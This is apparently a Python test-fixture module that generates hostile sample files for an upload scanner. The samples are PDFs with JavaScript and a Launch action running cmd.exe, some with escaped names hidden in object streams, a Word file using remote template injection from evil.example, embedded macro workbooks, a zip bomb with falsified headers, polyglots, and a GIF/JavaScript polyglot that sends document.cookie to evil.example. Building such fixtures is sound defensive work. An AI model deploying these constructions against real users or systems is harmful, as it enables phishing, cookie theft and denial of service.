"""Real files, built byte by byte, for the upload checks (network.uploads): PDFs with escaped
names and object streams, Word documents written with zipfile (python-docx is not a
dependency), polyglots, a zip bomb and the EICAR test string."""

import io
import struct
import zipfile
import zlib

from PIL import Image

# The antivirus test file (eicar.org): harmless, and every scanner reports it. 68 bytes.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FRENCH_TEXT = "Événement à Montréal : « ça dégénère », déjà signalé à la police. Où aller ?\n"


# --- PDF ---


def pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF with these objects (numbered from 1, the first the catalog) and a correct
    cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, trailer, xref)
    )
    return out.getvalue()


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
    b"/Resources << /Font << /F1 5 0 R >> >> >>",
    stream(b"/Filter /FlateDecode", zlib.compress(b"BT /F1 24 Tf 72 700 Td (Safety plan) Tj ET")),
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
]


def clean_pdf() -> bytes:
    """A one-page PDF with text, as a word processor writes it (compressed content)."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES])


def pdf_with_actions(*, escaped: bool) -> bytes:
    """Opens with a script, and a page that launches a program when it opens: the names
    written plainly, or with #xx escapes (/J#61vaScript is /JavaScript)."""
    names = {
        b"OpenAction": b"Op#65nA#63tion",
        b"JavaScript": b"J#61vaScript",
        b"JS": b"#4A#53",
        b"Launch": b"L#61#75nch",
        b"AA": b"#41A",
    }

    def n(name: bytes) -> bytes:
        return b"/" + (names[name] if escaped else name)

    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s 6 0 R >>" % n(b"OpenAction"),
            PAGES[0],
            PAGES[1][:-3] + b" %s << /O 7 0 R >> >>" % n(b"AA"),
            PAGES[2],
            PAGES[3],
            b"<< /S %s %s (app.alert\\('hello'\\)) >>" % (n(b"JavaScript"), n(b"JS")),
            b"<< /S %s /Win << /F (cmd.exe) /P (/c calc) >> >>" % n(b"Launch"),
        ]
    )


def pdf_with_script_in_object_stream(
    *, filters: bytes = b"/Filter /FlateDecode", kind: bytes = b"/Type /ObjStm"
) -> bytes:
    """A link on the page whose action is a script, the annotation kept in a compressed
    object stream (PDF 1.5) with its names escaped too: nothing of it can be read in the
    file's bytes."""
    annotation = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
        b"/A << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"
    )
    header = b"6 0 "
    body = header + annotation
    encoded = {
        b"/Filter /FlateDecode": zlib.compress(body),
        b"/Filter [/AHx /Fl]": zlib.compress(body).hex().encode() + b">",
    }[filters]
    page = PAGES[1][:-3] + b" /Annots [6 0 R] >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES[0],
        page,
        *PAGES[2:],
        stream(b"%s /N 1 /First %d %s" % (kind, len(header), filters), encoded),
    ]
    return pdf(objects)


# --- Office Open XML ---

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def content_types(*, defaults: dict[str, str] | None = None, overrides: dict | None = None) -> str:
    entries = {"rels": "application/vnd.openxmlformats-package.relationships+xml"}
    entries.update({"xml": "application/xml", "png": "image/png", **(defaults or {})})
    parts = {"/word/document.xml": MAIN, **(overrides or {})}
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in entries.items())
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in parts.items())
        + "</Types>"
    )


def relationships(*entries: tuple[str, str, str | None]) -> str:
    """(type, target, target mode) triples."""
    rows = "".join(
        f'<Relationship Id="rId{i}" Type="{REL if "/" not in kind else ""}{kind}" '
        f'Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for i, (kind, target, mode) in enumerate(entries, start=1)
    )
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PACKAGE_RELS}">{rows}</Relationships>'


def document_xml(body: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>'
        "<w:p><w:r><w:t>Plan de sécurité</w:t></w:r></w:p>"
        f"{body}</w:body></w:document>"
    )


def png_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (0, 90, 160)).save(out, "PNG")
    return out.getvalue()


def clean_docx(**parts: str | bytes) -> bytes:
    """A Word document as Word writes one: package and document relationships, styles,
    settings, a picture and a link to a web page (an external hyperlink is fine)."""
    files = {
        "[Content_Types].xml": content_types(),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", None)),
        "word/document.xml": document_xml(
            '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>Guide</w:t></w:r></w:hyperlink></w:p>'
        ),
        "word/_rels/document.xml.rels": relationships(
            ("styles", "styles.xml", None),
            ("settings", "settings.xml", None),
            ("hyperlink", "https://example.org/guide.html", "External"),
            ("image", "media/image1.png", None),
        ),
        "word/styles.xml": f'<w:styles xmlns:w="{W}"/>',
        "word/settings.xml": f'<w:settings xmlns:w="{W}"><w:zoom w:percent="100"/></w:settings>',
        "word/media/image1.png": png_bytes(),
    }
    files.update(parts)
    return write_zip(files)


def write_zip(files: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx_with_remote_template() -> bytes:
    """Word fetches the template from the address when the file opens (and runs its macros):
    the "remote template injection" of phishing campaigns."""
    return clean_docx(
        **{
            "word/settings.xml": (
                f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/>'
                "</w:settings>"
            ),
            "word/_rels/settings.xml.rels": relationships(
                ("attachedTemplate", "https://evil.example/normal.dotm", "External")
            ),
        }
    )


def macro_workbook() -> bytes:
    return write_zip(
        {
            "[Content_Types].xml": content_types(
                defaults={"bin": "application/vnd.ms-office.vbaProject"}
            ),
            "xl/workbook.xml": "<workbook/>",
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Attribute VB_Name",
        }
    )


def docx_with_macro_workbook() -> bytes:
    """A workbook with macros embedded as an object in the document (word/embeddings/)."""
    return clean_docx(
        **{
            "[Content_Types].xml": content_types(
                defaults={"xlsm": "application/vnd.ms-excel.sheet.macroEnabled.12"}
            ),
            "word/_rels/document.xml.rels": relationships(
                ("styles", "styles.xml", None),
                ("package", "embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", None),
            ),
            "word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm": macro_workbook(),
        }
    )


def zip_bomb_docx(*, inflated: int = 1024**3, honest: bool = True) -> bytes:
    """A Word document whose word/document.xml inflates to `inflated` bytes (1 GiB) from
    about 1 MB: the deflate stream is one full-flush block of 1 MiB of spaces, repeated.
    `honest=False` writes a small uncompressed size in the zip directory (headers lie)."""
    mib = b" " * 1024 * 1024
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflater.compress(mib) + deflater.flush(zlib.Z_FULL_FLUSH)
    count = inflated // len(mib)
    deflated = block * count + zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(mib, crc)
    size = inflated if honest else 1000
    small = {
        "[Content_Types].xml": content_types().encode(),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", None)).encode(),
    }
    out = io.BytesIO()
    central = []

    def member(name: bytes, method: int, crc: int, compressed: bytes, size: int) -> None:
        offset = out.tell()
        fields = (20, 0, method, 0, 0, crc, len(compressed), size, len(name), 0)
        out.write(b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", *fields) + name + compressed)
        central.append(
            b"PK\x01\x02"
            + struct.pack(
                "<HHHHHHIIIHHHHHII",
                *(20, 20, 0, method, 0, 0, crc, len(compressed), size, len(name)),
                *(0, 0, 0, 0, 0, offset),
            )
            + name
        )

    for name, content in small.items():
        member(name.encode(), 0, zlib.crc32(content), content, len(content))
    member(b"word/document.xml", 8, crc, deflated, size)
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    out.write(
        b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, len(central), len(central), len(directory), start, 0)
    )
    return out.getvalue()


# --- Polyglots ---


def pdf_zip_polyglot() -> bytes:
    """A PDF that is also a zip archive (a zip reader finds the archive from its end)."""
    return clean_pdf() + write_zip({"payload.js": "WScript.Echo('hello')"})


# A GIF header that is also a script a browser runs (as JavaScript, GIF89a=... is an
# assignment): served as text from our origin, it runs if a page loads it as a script.
GIF_JS_POLYGLOT = b"GIF89a=/*\n*/=1;\nfetch('https://evil.example/?c='+document.cookie);\n"
